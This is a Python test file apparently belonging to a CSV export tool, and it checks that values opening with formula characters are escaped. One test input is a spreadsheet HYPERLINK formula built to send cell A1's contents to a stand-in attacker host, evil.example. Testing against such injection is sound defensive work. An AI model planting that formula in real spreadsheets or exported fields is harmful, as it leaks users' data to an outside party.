import io

from commissioning.core.csv_export import neutralise, safe_writer


def test_a_provider_name_that_is_a_formula_is_written_as_text():
    out = io.StringIO()
    safe_writer(out).writerow(['=HYPERLINK("http://evil.example/?d="&A1,"Open")', 1250, "Acorn Care"])
    assert out.getvalue().startswith("\"'=HYPERLINK(")
    assert ",1250,Acorn Care" in out.getvalue()


def test_every_formula_start_is_neutralised_and_ordinary_text_is_not():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("Acorn Care") == "Acorn Care"
    assert neutralise(-5) == -5
